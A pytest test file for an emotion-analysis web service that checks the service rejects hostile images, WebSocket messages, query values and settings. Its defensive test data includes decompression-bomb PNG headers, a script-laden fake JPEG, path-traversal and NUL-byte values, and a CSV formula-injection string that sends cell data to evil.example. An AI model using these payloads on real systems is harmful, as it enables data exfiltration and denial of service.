"""Hostile images, frames, WebSocket messages, query values and settings: each gets a clear refusal.

Every case checks the exact answer, then that the server still answers and the seeded session is
intact (``Target.assert_intact``), on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import json
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

import cv2
import httpx
import numpy as np
import pytest
from hostile_target import Target, seed_session
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from emolens import Analyzer
from emolens.errors import InvalidImageError
from emolens.storage import ObservationFilter, Store
from emolens.vision.benchmark import BENCH_FRAME_FILES, BENCH_FRAMES_DIR


def _encode(shape: tuple[int, ...], suffix: str = ".png", dtype: type = np.uint8) -> bytes:
    ok, data = cv2.imencode(suffix, np.zeros(shape, dtype))
    assert ok
    return data.tobytes()


def _png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` and whose pixels are missing (a few dozen bytes)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00")) + chunk(b"IEND", b"")


def _face_jpeg(face: np.ndarray) -> bytes:
    return cv2.imencode(".jpg", face)[1].tobytes()


# (case id, file name, bytes maker, words the 422 message must hold)
BAD_IMAGES: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("png-1x100000", "strip.png", lambda: _encode((1, 100_000)), "sides above"),
    ("png-100000x1", "strip.png", lambda: _encode((100_000, 1)), "sides above"),
    ("png-32767-wide", "wide.png", lambda: _encode((8, 32_767)), "sides above"),
    ("png-32767-tall", "tall.png", lambda: _encode((32_767, 8)), "sides above"),
    ("jpeg-1x40000", "strip.jpg", lambda: _encode((1, 40_000), ".jpg"), "sides above"),
    ("tiff-40000x1", "strip.tif", lambda: _encode((40_000, 1), ".tiff"), "sides above"),
    ("bmp-1x20000", "strip.bmp", lambda: _encode((1, 20_000), ".bmp"), "sides above"),
    ("png-16bit-1x50000", "deep.png", lambda: _encode((1, 50_000), dtype=np.uint16), "sides above"),
    ("png-aspect-30", "ribbon.png", lambda: _encode((100, 3_000)), "aspect ratio"),
    ("png-aspect-25-tall", "ribbon.png", lambda: _encode((2_500, 100)), "aspect ratio"),
    ("png-header-17000-wide", "bomb.png", lambda: _png_header(17_000, 2_000), "sides above"),
    ("png-header-70000x70000", "bomb.png", lambda: _png_header(70_000, 70_000), "one request may hold"),
    ("png-header-9000x7000", "big.png", lambda: _png_header(9_000, 7_000), "above the limit"),
    ("empty", "empty.png", lambda: b"", "empty"),
    ("text-as-png", "note.png", lambda: b"hello, I am not a picture\n" * 4, "not an image"),
    ("truncated-png", "cut.png", lambda: _encode((64, 64, 3))[:60], "truncated"),
    ("truncated-jpeg", "cut.jpg", lambda: _encode((64, 64, 3), ".jpg")[:300], "truncated"),
    ("html-as-jpeg", "page.jpg", lambda: b"<html><script>alert(1)</script></html>", "not an image"),
]


@pytest.mark.parametrize(("name", "make", "words"), [c[1:] for c in BAD_IMAGES], ids=[c[0] for c in BAD_IMAGES])
def test_analyze_refuses_hostile_images(target: Target, name: str, make: Callable[[], bytes], words: str) -> None:
    with target.server.client() as client:
        response = client.post("/api/analyze", files={"image": (name, make())})
    # the request's pixel budget (100 MP over all its images) answers first, with 413, for the giant bomb
    assert response.status_code == (413 if words == "one request may hold" else 422), response.text
    assert words in response.json()["detail"]
    target.assert_intact()


@pytest.mark.parametrize(
    "shape",
    [(1, 32_767, 3), (32_767, 1), (1, 100_000), (8, 40_000, 4), (100, 3_000, 3), (0, 5, 3), (5, 0), (5, 5, 5)],
    ids=str,
)
def test_analyzer_refuses_hostile_arrays(tiny_analyzer: Analyzer, shape: tuple[int, ...]) -> None:
    """Before the fix these aborted the whole process inside OpenCV's remap (SIGABRT)."""
    with pytest.raises(InvalidImageError, match=r"sides above|aspect ratio|empty|expected an H x W"):
        tiny_analyzer.analyze(np.zeros(shape, np.uint8))


def test_a_video_of_giant_frames_is_refused_before_reading(tmp_path: Path, tiny_analyzer: Analyzer) -> None:
    path = tmp_path / "wide.avi"
    writer = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*"MJPG"), 10, (32_768, 8))
    for _ in range(2):
        writer.write(np.zeros((8, 32_768, 3), np.uint8))
    writer.release()
    from emolens.errors import SourceError

    with pytest.raises(SourceError, match="sides above"):
        list(tiny_analyzer.analyze_stream(path))


def _ws_url(target: Target) -> str:
    return target.server.url.replace("http", "ws") + "/ws/live"


WS_BAD_FRAMES = [c for c in BAD_IMAGES if c[1].endswith((".png", ".jpg"))][:10]


@pytest.mark.parametrize("make", [c[2] for c in WS_BAD_FRAMES], ids=[c[0] for c in WS_BAD_FRAMES])
def test_live_frame_refused_and_session_goes_on(target: Target, astronaut_bgr: np.ndarray, make: Callable[[], bytes]):
    with connect(_ws_url(target)) as ws:
        ws.send(json.dumps({"type": "start", "scenario": "Hostile frames"}))
        assert json.loads(ws.recv(timeout=30))["type"] == "started"
        ws.send(struct.pack(">I", 1) + make())
        reply = json.loads(ws.recv(timeout=30))
        assert reply["type"] == "error" and reply["detail"]
        ws.send(struct.pack(">I", 2) + _face_jpeg(astronaut_bgr))
        reply = json.loads(ws.recv(timeout=30))
        assert reply["type"] == "result" and reply["frame_id"] == 2 and len(reply["faces"]) == 1
        ws.send(json.dumps({"type": "stop"}))
        assert json.loads(ws.recv(timeout=30))["type"] == "summary"
    target.assert_intact()


FIRST_MESSAGES: list[tuple[str, str | bytes]] = [
    ("binary", b"\x00\x00\x00\x01\xff\xd8\xff"),
    ("scenario-null", json.dumps({"type": "start", "scenario": None})),
    ("scenario-number", json.dumps({"type": "start", "scenario": 123})),
    ("scenario-list", json.dumps({"type": "start", "scenario": ["a"]})),
    ("scenario-missing", json.dumps({"type": "start"})),
    ("scenario-blank", json.dumps({"type": "start", "scenario": "   "})),
    ("scenario-81-chars", json.dumps({"type": "start", "scenario": "a" * 81})),
    ("scenario-nul", json.dumps({"type": "start", "scenario": "Interview\u0000"})),
    ("scenario-newline", json.dumps({"type": "start", "scenario": "a\nb"})),
    ("type-stop-first", json.dumps({"type": "stop"})),
    ("type-number", json.dumps({"type": 1, "scenario": "x"})),
    ("json-list", "[1, 2]"),
    ("json-null", "null"),
    ("json-string", '"start"'),
    ("not-json", "start please"),
    ("empty-text", ""),
    ("deep-100k", "[" * 100_000 + "]" * 100_000),
    ("deep-2000", "[" * 2_000 + "]" * 2_000),
    ("long-text", json.dumps({"type": "start", "scenario": "x", "pad": "y" * 10_000})),
]


@pytest.mark.parametrize("message", [m for _, m in FIRST_MESSAGES], ids=[i for i, _ in FIRST_MESSAGES])
def test_bad_first_message_gets_an_error_and_a_clean_close(target: Target, message: str | bytes) -> None:
    with connect(_ws_url(target), max_size=None) as ws:
        ws.send(message)
        reply = json.loads(ws.recv(timeout=30))
        assert reply["type"] == "error" and reply["detail"]
        with pytest.raises(ConnectionClosed) as closed:
            ws.recv(timeout=10)
        assert closed.value.rcvd is not None and closed.value.rcvd.code == 1003
    target.assert_intact()


LATER_MESSAGES: list[tuple[str, str | bytes]] = [
    ("text-mentions-stop", json.dumps({"type": "note", "text": "stop"})),
    ("plain-stop-word", "stop"),
    ("quoted-stop", '"stop"'),
    ("start-again", json.dumps({"type": "start", "scenario": "again"})),
    ("deep-json", "[" * 100_000 + "]" * 100_000),
    ("short-binary", b"\x00\x01\x02"),
    ("id-and-garbage", b"\x00\x00\x00\x07garbage"),
    ("over-2-mb", b"\x00\x00\x00\x08" + b"\xff" * 2_100_000),
]


@pytest.mark.parametrize("message", [m for _, m in LATER_MESSAGES], ids=[i for i, _ in LATER_MESSAGES])
def test_bad_later_message_does_not_end_the_session(
    target: Target, astronaut_bgr: np.ndarray, message: str | bytes
) -> None:
    with connect(_ws_url(target), max_size=None) as ws:
        ws.send(json.dumps({"type": "start", "scenario": "Hostile messages"}))
        session_id = json.loads(ws.recv(timeout=30))["session"]["id"]
        ws.send(message)
        assert json.loads(ws.recv(timeout=30))["type"] == "error"
        ws.send(struct.pack(">I", 3) + _face_jpeg(astronaut_bgr))
        assert json.loads(ws.recv(timeout=30))["type"] == "result"
        ws.send(json.dumps({"type": "stop"}))
        summary = json.loads(ws.recv(timeout=30))["summary"]
    assert summary["session"]["id"] == session_id and summary["session"]["observation_count"] == 1
    target.assert_intact()


BAD_QUERIES = [
    ("offset-2^70", "/api/observations", {"offset": 2**70}),
    ("offset-negative", "/api/observations", {"offset": -1}),
    ("limit-2^70", "/api/observations", {"limit": 2**70}),
    ("limit-zero", "/api/observations", {"limit": 0}),
    ("limit-text", "/api/observations", {"limit": "ten"}),
    ("until-year-9999", "/api/observations", {"until": "9999-12-31"}),
    ("since-year-1-east", "/api/observations/stats", {"since": "0001-01-01T00:00:00+01:00"}),
    ("until-year-9999-west", "/api/observations/stats", {"until": "9999-12-31T23:59:59-01:00"}),
    ("since-month-13", "/api/observations", {"since": "2024-13-01"}),
    ("since-zone-99h", "/api/observations", {"since": "2024-01-01T00:00:00+99:00"}),
    ("since-long", "/api/observations", {"since": "2024-01-01" + "0" * 100}),
    ("person-nul", "/api/observations", {"person": "a\x00b"}),
    ("scenario-nul", "/api/observations/stats", {"scenario": "\x00"}),
    ("session-nul", "/api/observations/export", {"session_id": "\x00"}),
    ("emotion-nul", "/api/people/stats", {"emotion": "happy\x00"}),
    ("source-300-chars", "/api/observations", {"source": "w" * 300}),
    ("sessions-limit-2^70", "/api/sessions", {"limit": 2**70}),
    ("sessions-source-nul", "/api/sessions", {"source": "web\x00cam"}),
    ("export-format", "/api/observations/export", {"format": "xlsx"}),
]


@pytest.mark.parametrize(("path", "params"), [c[1:] for c in BAD_QUERIES], ids=[c[0] for c in BAD_QUERIES])
def test_bad_query_values_are_422(target: Target, path: str, params: dict[str, object]) -> None:
    response = httpx.get(target.server.url + path, params=params, timeout=30)  # type: ignore[arg-type]
    assert response.status_code == 422, response.text
    assert response.json()["detail"]
    target.assert_intact()


@pytest.mark.parametrize("suffix", ["/%00", "/a%00b/summary", "/x%2F..%2F..", "/" + "a" * 100])
def test_bad_session_ids_are_422(target: Target, suffix: str) -> None:
    response = httpx.get(f"{target.server.url}/api/sessions{suffix}", timeout=30)
    assert response.status_code in (404, 422), response.text
    assert response.status_code == (404 if "%2F" in suffix else 422)
    target.assert_intact()


def test_good_filters_still_answer(target: Target) -> None:
    params = {"since": "2000-01-01", "until": "2999-12-31T00:00:00+05:30", "session_id": target.session_id}
    response = httpx.get(f"{target.server.url}/api/observations/stats", params=params, timeout=30)
    assert response.status_code == 200 and response.json()["total"] == target.observations


BAD_SETTINGS = [
    ("weight-NaN", '{"weights": {"happy": NaN}}'),
    ("weight-Infinity", '{"weights": {"happy": Infinity}}'),
    ("weight-minus-Infinity", '{"weights": {"sad": -Infinity}}'),
    ("weight-1e400", '{"weights": {"happy": 1e400}}'),
    ("weight-minus-1e400", '{"weights": {"angry": -1e400}}'),
    ("weight-1000", '{"weights": {"happy": 1000}}'),
    ("weight-text", '{"weights": {"happy": "lots"}}'),
    ("weight-null", '{"weights": {"happy": null}}'),
    ("weight-unknown-emotion", '{"weights": {"bored": 1}}'),
    ("weights-list", '{"weights": [1, 2]}'),
    ("other-NaN", '{"other_weight": NaN}'),
    ("other-1e400", '{"other_weight": 1e400}'),
    ("crop-every-zero", '{"crop_every_n_frames": 0}'),
    ("crop-every-1e400", '{"crop_every_n_frames": 1e400}'),
    ("samples-negative", '{"samples_per_second": -1}'),
    ("samples-NaN", '{"samples_per_second": NaN}'),
    ("samples-1e400", '{"samples_per_second": 1e400}'),
    ("samples-text", '{"samples_per_second": "every frame"}'),
    ("retention-zero", '{"retention": 0}'),
    ("retention-text", '{"retention": "all"}'),
    ("not-json", "retention=5"),
    ("json-array", "[]"),
]


@pytest.mark.parametrize("body", [b for _, b in BAD_SETTINGS], ids=[i for i, _ in BAD_SETTINGS])
def test_bad_settings_are_422_and_change_nothing(target: Target, body: str) -> None:
    with target.server.client() as client:
        before = client.get("/api/settings").json()
        response = client.put("/api/settings", content=body, headers={"Content-Type": "application/json"})
        assert response.status_code == 422, response.text
        assert response.json()["detail"].startswith("invalid request:")
        after = client.get("/api/settings")
    assert after.status_code == 200 and after.json() == before
    assert "NaN" not in after.text and "Infinity" not in after.text
    target.assert_intact()


def test_csv_export_neutralises_formulas(target: Target) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    session_id = seed_session(target.db_url, scenario=formula, person="@SUM(1+1)", n=2)
    response = httpx.get(f"{target.server.url}/api/observations/export", params={"session_id": session_id}, timeout=30)
    assert response.status_code == 200
    rows = response.text.splitlines()[1:]
    assert len(rows) == 2
    for row in rows:
        assert ",'=HYPERLINK(" in row.replace('"', "") and ",'@SUM(1+1)," in row
        assert ",=" not in row and ",@" not in row
    store = Store(target.db_url)
    try:  # the stored values stay as the user typed them; only the export cell is guarded
        assert store.query_observations(ObservationFilter(session_id=session_id))[0].scenario == formula
        store.delete_session(session_id)
    finally:
        store.close()
    target.assert_intact()


def _emolens(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "emolens", *args], cwd=cwd, capture_output=True, text=True, timeout=300
    )


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (("predict", "strip.png"), "sides above"),
        (("predict", "face.jpg", "--out", "annotated.txt"), "not an image name"),
        (("predict", "face.jpg", "--out", "missing-folder/x.jpg"), "cannot write"),
        (("video", "wide.avi"), "sides above"),
        (("serve", "--db", "postgresql://ada:hunter2@127.0.0.1:1/nowhere"), "cannot open the database"),
    ],
    ids=["predict-strip", "predict-out-txt", "predict-out-missing-folder", "video-giant-frames", "serve-no-db"],
)
def test_cli_refuses_with_one_line(tmp_path: Path, astronaut_bgr: np.ndarray, args: tuple[str, ...], words: str):
    (tmp_path / "strip.png").write_bytes(_encode((1, 100_000)))
    cv2.imwrite(str(tmp_path / "face.jpg"), astronaut_bgr)
    writer = cv2.VideoWriter(str(tmp_path / "wide.avi"), cv2.VideoWriter_fourcc(*"MJPG"), 10, (32_768, 8))
    writer.write(np.zeros((8, 32_768, 3), np.uint8))
    writer.release()
    result = _emolens(*args, cwd=tmp_path)
    assert result.returncode in (1, 2), result.stderr
    assert words in result.stderr and "Traceback" not in result.stderr
    assert "hunter2" not in result.stderr + result.stdout


def test_enrolling_without_a_photo_says_what_is_missing(target: Target) -> None:
    with target.server.client() as client:
        response = client.post("/api/people", data={"name": "Ada"})
    assert response.status_code == 422
    body = response.json()
    assert body["detail"] == "invalid request: photos: a value is required"
    assert body["errors"][0]["loc"] == ["body", "photos"] and "input" not in body["errors"][0]
    target.assert_intact()


def _giant_frame_video(folder: Path) -> bytes:
    path = folder / "giant.avi"
    writer = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*"MJPG"), 10, (32_768, 8))
    writer.write(np.zeros((8, 32_768, 3), np.uint8))
    writer.release()
    return path.read_bytes()


@pytest.mark.parametrize(
    ("kind", "words"),
    [("empty", "empty"), ("text", "cannot open"), ("truncated", "talk.avi"), ("giant-frames", "sides above")],
)
def test_bad_videos_are_422_without_server_paths(
    target: Target, moving_face_video: Path, tmp_path: Path, kind: str, words: str
) -> None:
    good = moving_face_video.read_bytes()
    data = {
        "empty": b"",
        "text": b"this is not a video\n" * 50,
        "truncated": good[:300],
        "giant-frames": _giant_frame_video(tmp_path),
    }[kind]
    with target.server.client() as client:
        response = client.post("/api/uploads", files=[("files", ("talk.avi", data))], data={"scenario": "Videos"})
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert words in detail and "/tmp" not in detail and "upload.avi" not in detail
    target.assert_intact()


def test_every_still_path_finds_the_same_faces(target: Target, tiny_analyzer: Analyzer) -> None:
    """The web's stills (analyze, uploads, enrolment's detector) scan tiles as `emolens predict` does: on the
    four-face benchmark frame all find 4 (the web found 3 before)."""
    data = (BENCH_FRAMES_DIR / BENCH_FRAME_FILES["4 faces"]).read_bytes()
    expected = len(tiny_analyzer.analyze(data))
    with target.server.client() as client:
        analyzed = client.post("/api/analyze", files={"image": ("four.png", data)}).json()
        uploaded = client.post("/api/uploads", files=[("files", ("four.png", data))], data={"scenario": "Four"})
        assert uploaded.status_code == 201, uploaded.text
        assert client.delete(f"/api/sessions/{uploaded.json()['session']['id']}").status_code == 204
    assert expected == 4 and len(analyzed["faces"]) == 4
    assert len(uploaded.json()["results"][0]["faces"]) == 4
    target.assert_intact()
